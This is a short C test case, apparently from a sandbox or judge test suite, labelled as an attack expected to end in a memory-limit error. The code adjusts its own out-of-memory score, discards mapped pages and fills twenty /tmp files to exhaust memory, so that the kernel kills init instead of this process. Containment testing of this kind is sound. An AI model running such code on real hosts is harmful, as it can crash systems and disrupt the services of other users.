// attack: has the kernel kill init instead, when memory runs out: smaller than init, and asking to be spared
// expect: MLE

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

static char page[4096];

int main(void) {
    int fd = open("/proc/self/oom_score_adj", O_WRONLY);
    write(fd, "0", 1);
    close(fd);
    FILE *maps = fopen("/proc/self/maps", "r");
    unsigned long from, to, areas[40][2];
    int count = 0;
    char line[300];
    while (count < 40 && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx r-", &from, &to) == 2) areas[count][0] = from, areas[count++][1] = to;
    }
    int files[20];
    for (int file = 0; file < 20; file++) {
        char name[40];
        snprintf(name, sizeof name, "/tmp/%d", file);
        files[file] = open(name, O_CREAT | O_WRONLY, 0600);
    }
    for (int i = 0; i < 2; i++) madvise((void *)areas[i][0], areas[i][1] - areas[i][0], MADV_DONTNEED);
    for (int file = 0; file < 20; file++) {
        for (int i = 0; i < 32 * 256 && write(files[file], page, sizeof page) > 0; i++) {
        }
    }
    puts("contained");
}
